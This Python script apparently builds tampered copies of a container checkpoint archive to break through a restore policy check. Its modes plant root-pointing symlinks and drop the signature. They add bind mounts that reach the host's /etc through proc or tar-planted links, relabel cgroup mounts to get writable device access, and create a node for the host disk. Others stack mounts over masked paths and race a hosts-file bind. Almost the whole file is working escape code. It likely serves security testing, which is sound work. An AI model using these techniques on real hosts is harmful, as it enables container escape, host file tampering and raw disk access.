"""attack30k: edited copies of a real gpuckpt export aimed at container_own()'s prefix (policy/spec_grants.py).
usage: edit30i.py SRC OUT MODE [ARG]    (gpuckpt's venv python: zstandard; gpuckpt's pycriu for mountpoints)
MODE dslash:  UNSIGNED (gpuckpt-dump.sig dropped). The archive ships, at its root (podman's --import untars root
              entries into the container's userdata), attack30k-l/overlay-containers/<ID> -> / (a root-owned link
              once podman untars it). spec.dump binds at /mnt (rbind rw)
              <graphroot>/overlay-containers//<ID>/userdata/attack30k-l/overlay-containers/<ID>/etc
              ('//' so the first literal '/overlay-containers/<ID>/' is the planted one: the prefix before it may
              hold root-owned links, only the part after it is walked with RESOLVE_NO_SYMLINKS).
              mountpoints: an external bind at /mnt (ext_key /mnt: runc gives CRIU the spec's source).
MODE ctrlink: UNSIGNED; spec.dump binds at /mnt ARG/overlay-containers/<ID>/etc where ARG is another running
              container's merged root dir, in which that container (its root = host uid 0) made
              attack30k/overlay-containers/<ID> -> / (pass ARG = MERGED/attack30k). Same mountpoints entry.
MODE victimshm: SIGNED (sig kept, checkpoint/ untouched). The named volume's tar gains overlay-containers/<ID>
              -> /var/lib/containers/storage/overlay-containers/<ARG> (ARG: a victim container's full ID);
              spec.dump gains a second /dev/shm bind from <volume _data>/overlay-containers/<ID>/userdata/shm:
              container_own() calls it <self>/userdata/shm, what the signed checkpoint recorded.
MODE tmpfsbind: UNSIGNED; spec.dump untouched. checkpoint/tmpfs-dev-N.tar.gz.img (/dev's content, CRIU untars it)
              gains ./attack30k-l -> /; mountpoints gains a second mount of /dev's tmpfs (same root_dev, fstype
              tmpfs, not external) with root /attack30k-l/etc at /mnt: image_mounts allows tmpfs "anywhere" whatever
              its root, and CRIU binds <its /dev>/attack30k-l/etc, following the link in its own (the host's) root.
MODE procroot: UNSIGNED; spec.dump untouched. mountpoints gains a READ-ONLY bind of the container's proc (same root_dev
              as /proc) with root /1/root/etc at /mnt (image_mounts allows "a bind of part of proc ... read-only"):
              /proc/1 of the new pid namespace is CRIU's root task, whose root is the host's until it pivots.
              ARG: another root instead of /1/root/etc.
MODE cgext:   UNSIGNED; spec.dump untouched. mountpoints gains a copy of the external pids cgroup bind (ext_key
              /sys/fs/cgroup/pids: runc maps it to the cgroup runc itself is in, conmon's) at /mnt, read-write, its fstype
              said to be tmpfs: the cgroup read-only floor goes by fstype, and an external mount's fstype is never used.
MODE cgdevext: as cgext with the DEVICES hierarchy (conmon's devices cgroup: every device allowed), and /dev's tmpfs
              image gains a block node attack30k-vda 254:0 (the host's disk; CRIU makes it): a process of the
              container writes its pid into /mnt/cgroup.procs and opens the node.
MODE nosig:   UNSIGNED control: only the dump signature dropped (attack30k).
MODE cgflip:  UNSIGNED (attack30k, after 7cf4480): the ORIGINAL external pids cgroup bind (ext_key = its own mountpoint
              /sys/fs/cgroup/pids, so "only at its key, once" holds) said to be a tmpfs and read-write: the cgroup
              read-only floor still goes by the image's fstype; runc's source for that key is conmon's cgroup.
MODE cgdevflip: as cgflip with the DEVICES hierarchy; /dev's tmpfs image gains a char node attack30k-dev (ARG
              "MAJ:MIN", default 1:11 = /dev/kmsg) that the container's devices cgroup denies and conmon's allows.
MODE maskorder: UNSIGNED (attack30k): read-only binds of proc's /keys and /timer_list and sysfs's /firmware AT the masked
              paths (allowed: "read-only at the path it shows"), each listed BEFORE the runtime's mask of that path
              (/dev/null, tmpfs) but with a later mnt_id: mount_problems' masked check reads one mount per
              mountpoint, the last listed (the mask); CRIU mounts the later mnt_id on top.
MODE masksub: UNSIGNED (attack30k): a read-only bind of sysfs's /firmware/acpi at /sys/firmware/acpi, a CHILD of the
              runtime's tmpfs mask at /sys/firmware (the mask's tmpfs image gains the directory ./acpi): the masked
              check looks at /sys/firmware itself only; "part of sysfs, read-only, at the path it shows" holds.
MODE mntlink: UNSIGNED (attack30k): a new whole tmpfs (root "/", allowed anywhere) at /dev/attack30k-m, its own content
              image (tmpfs-dev-999: one root-owned file attack30k-planted) and /dev's tmpfs image gains
              ./attack30k-m -> ARG (default /var/tmp/attack30k/mtarget): CRIU untars /dev's content, then mounts the
              child at its mountpoint by path, in its own (a copy of the host's) mount namespace.
MODE devetc:  UNSIGNED (attack30k): spec.dump gains a device {path ARG (default /etc), c 1:3} (null: allowed; its path is
              never judged) and mountpoints an external mount at ARG keyed ARG ("only at its key": holds), /etc/hosts
              and /etc/hostname re-parented under it: runc maps a spec device's path to the same host path.
MODE devnode: UNSIGNED (attack30k, after 053167a): ARG PATH:MAJ:MIN, a spec device at a real device node of this node
              (it passes _host_node_is) and an external mount at PATH keyed PATH under the mount that holds PATH: runc
              binds the HOST's node there. /dev/pts/ptmx (c 5:2, runc's ptmx) is the host devpts instance's ptmx.
MODE cgmove: UNSIGNED (attack30k, after 053167a): spec.dump gains a cgroup mount ($CGOPT: rw or ro) at ARG (default /mnt) and the image
              an external mount at ARG/pids keyed ARG/pids, "a tmpfs", read-write: runc's restore maps each hierarchy of a
              spec cgroup mount (DEST/<name>) to its cgroup; the new rule reads only external mounts under /sys/fs/cgroup.
MODE samedev: UNSIGNED (attack30k): a whole "tmpfs" (root "/", allowed anywhere) at /mnt whose root_dev is the host disk's
              (that of the external /etc/hosts mount): does CRIU make it a bind of that filesystem's root?
MODE racehosts: SIGNED; spec.dump gains a second /etc/hosts bind from ARG/overlay-containers/<ID>/userdata/hosts
              (ARG: a running container's MERGED/attack30k, where that container flips userdata between a real
              directory and a link to /etc: check-then-use).
"""
import io, json, os, sys, tarfile
import zstandard

src, out, mode = sys.argv[1:4]
arg = sys.argv[4] if len(sys.argv) > 4 else ""
sys.path.insert(0, "/opt/gpuckpt/criu/usr/lib/python3/dist-packages")
import pycriu

with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
_mnt = next(d for m, d in members if m.name.startswith("checkpoint/mountpoints-"))
devtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
    e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/dev")
fwtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
    e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/sys/firmware")
UNSIGNED = mode in ("nullat", "emptydir", "nullstack", "emptystack", "console", "dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub", "mntlink", "devetc", "samedev", "devnode", "cgmove")
if mode == "dslash":
    source = f"/var/lib/containers/storage/overlay-containers//{cid}/userdata/attack30k-l/overlay-containers/{cid}/etc"
elif mode == "ctrlink":
    source = f"{arg}/overlay-containers/{cid}/etc"


def mounts(data):
    doc = pycriu.images.loads(data)
    entries = doc["entries"]
    root = next(e for e in entries if e["mountpoint"] == "/")
    if mode == "devetc":
        point = arg or "/etc"
        hosts = next(e for e in entries if e["mountpoint"] == "/etc/hosts")
        entries.append(dict(hosts, mnt_id=810, parent_mnt_id=root["mnt_id"], root=point, mountpoint=point, ext_key=point,
                            flags=0x200000))
        for e in entries:
            if e["mountpoint"].startswith(point + "/"):
                e["parent_mnt_id"] = 810
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "devnode":  # attack30k: an external mount at the device's path, under the mount that holds it
        point = arg.split(":")[0]
        hosts = next(e for e in entries if e["mountpoint"] == "/etc/hosts")
        parent = max((e for e in entries if point.startswith(e["mountpoint"].rstrip("/") + "/")), key=lambda e: len(e["mountpoint"]))
        entries.append(dict(hosts, mnt_id=811, parent_mnt_id=parent["mnt_id"], root=point, mountpoint=point, ext_key=point,
                            flags=0x200000))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode in ("nullat", "emptydir"):  # attack30k: a copy of runc's /dev/null mask at ARG (default /mnt), rw; emptydir: keyed crun's dir
        mask = next(e for e in entries if e.get("ext_key") == "/dev/null")
        point = arg or "/mnt"
        parent = max((e for e in entries if point.startswith(e["mountpoint"].rstrip("/") + "/")), key=lambda e: len(e["mountpoint"]))
        entries.append(dict(mask, mnt_id=840, parent_mnt_id=parent["mnt_id"], mountpoint=point, flags=0x200000,
                            ext_key="/dev/null" if mode == "nullat" else "/run/crun/.empty-directory"))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode in ("nullstack", "emptystack"):  # attack30k: the mask key stacked ON an existing mount at ARG, listed first
        # (default /etc/hosts for /dev/null, /dev/mqueue for crun's directory): image_mounts keeps one mount per
        # mountpoint (a dict, the last listed), so the key's own mount is never judged against the masked paths
        mask = next(e for e in entries if e.get("ext_key") == "/dev/null")
        point = arg or ("/etc/hosts" if mode == "nullstack" else "/dev/mqueue")
        under = next(i for i, e in enumerate(entries) if e["mountpoint"] == point)
        entries.insert(under, dict(mask, mnt_id=860, parent_mnt_id=entries[under]["mnt_id"], mountpoint=point, flags=0x200000,
                                   ext_key="/dev/null" if mode == "nullstack" else "/run/crun/.empty-directory"))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "console":  # attack30k: devpts's /ARG (default 0) bound at /dev/console
        pts = next(e for e in entries if e["mountpoint"] == "/dev/pts")
        entries.append(dict(pts, mnt_id=850, parent_mnt_id=next(e for e in entries if e["mountpoint"] == "/dev")["mnt_id"],
                            root="/" + (arg or "0"), mountpoint="/dev/console", **({"root_dev": int(os.environ["RDEV"])} if os.environ.get("RDEV") else {})))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "samedev":
        hosts = next(e for e in entries if e["mountpoint"] == "/etc/hosts")
        dev = next(e for e in entries if e["mountpoint"] == "/dev")
        entries.append(dict(dev, mnt_id=820, parent_mnt_id=root["mnt_id"], root_dev=hosts["root_dev"], root="/",
                            mountpoint="/mnt", flags=0x200000, sb_flags=0, source="/dev/vda"))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "mntlink":
        dev = next(e for e in entries if e["mountpoint"] == "/dev")
        entries.append(dict(dev, mnt_id=800, parent_mnt_id=dev["mnt_id"], root_dev=999, root="/",
                            mountpoint="/dev/attack30k-m", flags=0x200000 | 0x6, sb_flags=0, ext_key=None))
        entries[-1].pop("ext_key")
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "masksub":
        sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
        mask = next(e for e in entries if e["mountpoint"] == "/sys/firmware")
        entries.append(dict(sysfs, mnt_id=790, parent_mnt_id=mask["mnt_id"], root="/firmware/acpi",
                            mountpoint="/sys/firmware/acpi", flags=0x200000 | 0xf))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "maskorder":
        proc = next(e for e in entries if e["mountpoint"] == "/proc")
        sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
        for n, (base, root, point) in enumerate(((proc, "/keys", "/proc/keys"), (proc, "/timer_list", "/proc/timer_list"),
                                                 (sysfs, "/firmware", "/sys/firmware"))):
            mask = next(i for i, e in enumerate(entries) if e["mountpoint"] == point)
            entries.insert(mask, dict(base, mnt_id=780 + n, parent_mnt_id=base["mnt_id"], root=root, mountpoint=point,
                                      flags=0x200000 | 0xf))  # read-only, nosuid, nodev, noexec
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "cgmove":  # attack30k: the pids hierarchy's copy at ARG/pids (ARG default /mnt), keyed there, "a tmpfs", rw
        cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/pids")
        point = (arg or "/mnt") + "/pids"
        entries.append(dict(cg, mnt_id=830, parent_mnt_id=root["mnt_id"], mountpoint=point, ext_key=point, fstype=5,
                            flags=0x200000, sb_flags=0))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode in ("cgflip", "cgdevflip"):
        cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/" + ("pids" if mode == "cgflip" else "devices"))
        cg.update(fstype=5, flags=0x200000, sb_flags=0)  # "a tmpfs", read-write; ext_key and mountpoint as runc made them
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode in ("cgext", "cgdevext"):
        cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/" + ("pids" if mode == "cgext" else "devices"))
        entries.append(dict(cg, mnt_id=777, parent_mnt_id=root["mnt_id"], mountpoint="/mnt", fstype=5,
                            flags=0x200000, sb_flags=0))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "procroot":
        proc = next(e for e in entries if e["mountpoint"] == "/proc")
        entries.append(dict(proc, mnt_id=777, parent_mnt_id=root["mnt_id"], root=arg or "/1/root/etc",
                            mountpoint="/mnt", flags=0x200000 | 0xf))  # MS_RDONLY|NOSUID|NODEV|NOEXEC
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    if mode == "tmpfsbind":
        dev = next(e for e in entries if e["mountpoint"] == "/dev")
        entries.append(dict(dev, mnt_id=777, parent_mnt_id=root["mnt_id"], root="/attack30k-l/etc",
                            mountpoint="/mnt", flags=0x200000))
        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
    entries.append({"fstype": 0, "mnt_id": 777, "root_dev": 254 << 20, "options": "", "parent_mnt_id": root["mnt_id"],
                    "flags": 0x200000, "root": "/", "mountpoint": "/mnt", "source": "/dev/vda",
                    "shared_id": 0, "master_id": 0, "sb_flags": 0, "ext_key": "/mnt"})
    buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()


def dev_tar(data):
    import gzip
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data))) as t:
        items = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for m, d in items:
            t.addfile(m, io.BytesIO(d) if d is not None else None)
        if mode == "tmpfsbind":
            t.addfile(info("./attack30k-l", tarfile.SYMTYPE, "/"))
        elif mode == "masksub":
            t.addfile(info("./acpi", tarfile.DIRTYPE))
        elif mode == "console":  # attack30k: the mountpoint CRIU stats
            t.addfile(info("./console", tarfile.REGTYPE), io.BytesIO(b""))
        elif mode == "mntlink":
            t.addfile(info("./attack30k-m", tarfile.SYMTYPE, arg or "/var/tmp/attack30k/mtarget"))
        elif mode == "cgdevflip":
            node = info("./attack30k-dev", tarfile.CHRTYPE); node.mode = 0o600
            node.devmajor, node.devminor = (int(x) for x in (arg or "1:11").split(":"))
            t.addfile(node)
        else:
            node = info("./attack30k-vda", tarfile.BLKTYPE); node.devmajor, node.devminor, node.mode = 254, 0, 0o600
            t.addfile(node)
    return gzip.compress(buf.getvalue())


def freezer_perms(data):  # CRIU 4.2.1 dumps freezer.state's perms uninitialised (attack30f): set them sane
    doc = pycriu.images.loads(data)
    for controller in doc["entries"][0]["controllers"]:
        for d in controller.get("dirs", []):
            for p in d.get("properties", []):
                if p["name"] == "freezer.state" and "perms" in p:
                    p["perms"] = {"mode": 0o100644, "uid": 0, "gid": 0}
    buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()


def info(name, kind, link=""):
    i = tarfile.TarInfo(name); i.type, i.mode, i.uid, i.gid, i.linkname = kind, 0o755, 0, 0, link
    return i


def vol(data):
    with tarfile.open(fileobj=io.BytesIO(data)) as vin:
        items = [(m, vin.extractfile(m).read() if m.isfile() else None) for m in vin]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as vout:
        for m, d in items:
            vout.addfile(m, io.BytesIO(d) if d is not None else None)
        vout.addfile(info("overlay-containers", tarfile.DIRTYPE))
        vout.addfile(info(f"overlay-containers/{cid}", tarfile.SYMTYPE, f"/var/lib/containers/storage/overlay-containers/{arg}"))
    return buf.getvalue()


with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if UNSIGNED and m.name == "checkpoint/gpuckpt-dump.sig":
            continue
        if UNSIGNED and mode != "nosig" and m.name.startswith("checkpoint/mountpoints-"):
            d = mounts(d)
        if mode == "masksub" and m.name == fwtar:
            d = dev_tar(d)
        elif mode in ("tmpfsbind", "cgdevext", "cgdevflip", "mntlink", "console") and m.name == devtar:
            d = dev_tar(d)
        if UNSIGNED and m.name == "checkpoint/cgroup.img":
            d = freezer_perms(d)
        if mode == "victimshm" and m.name.startswith("volumes/") and m.name.endswith(".tar"):
            d = vol(d)
        if m.name == "spec.dump":
            spec = json.loads(d)
            if mode in ("dslash", "ctrlink"):
                spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": source, "options": ["rbind", "rw"]})
            elif mode == "victimshm":
                spec["mounts"].append({"destination": "/dev/shm", "type": "bind", "options": ["bind", "private", "nosuid", "noexec", "nodev"],
                    "source": f"/var/lib/containers/storage/volumes/attack30k-vol/_data/overlay-containers/{cid}/userdata/shm"})
            elif mode == "devetc":
                spec["linux"]["devices"] = (spec["linux"].get("devices") or []) + [
                    {"path": arg or "/etc", "type": "c", "major": 1, "minor": 3, "fileMode": 438, "uid": 0, "gid": 0}]
            elif mode == "cgmove":  # a second cgroup mount, read-write, at ARG: runc maps ARG/<hierarchy> to its cgroups
                spec["mounts"].append({"destination": arg or "/mnt", "type": "cgroup", "source": "cgroup",
                                       "options": [os.environ.get("CGOPT", "rw"), "nosuid", "noexec", "nodev", "relatime"]})
            elif mode == "devnode":  # ARG PATH:MAJ:MIN
                path, major, minor = arg.split(":")
                spec["linux"]["devices"] = (spec["linux"].get("devices") or []) + [
                    {"path": path, "type": "c", "major": int(major), "minor": int(minor), "fileMode": 438, "uid": 0, "gid": 0}]
            elif mode == "racehosts":
                spec["mounts"].append({"destination": "/etc/hosts", "type": "bind", "options": ["bind", "private"],
                    "source": f"{arg}/overlay-containers/{cid}/userdata/hosts"})
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
    if mode == "mntlink":  # the new tmpfs's content: one root-owned file
        import gzip
        tb = io.BytesIO()
        with tarfile.open(fileobj=tb, mode="w", format=tarfile.GNU_FORMAT) as t:
            t.addfile(info(".", tarfile.DIRTYPE))
            f = info("./attack30k-planted", tarfile.REGTYPE); body = b"planted by an archive through CRIU\n"; f.size = len(body)
            t.addfile(f, io.BytesIO(body))
        body = gzip.compress(tb.getvalue()); f = tarfile.TarInfo("checkpoint/tmpfs-dev-999.tar.gz.img"); f.size = len(body)
        f.mode = 0o600; tout.addfile(f, io.BytesIO(body))
    if mode == "dslash":
        tout.addfile(info("attack30k-l", tarfile.DIRTYPE))
        tout.addfile(info("attack30k-l/overlay-containers", tarfile.DIRTYPE))
        tout.addfile(info(f"attack30k-l/overlay-containers/{cid}", tarfile.SYMTYPE, "/"))
print(cid, mode, "ok")
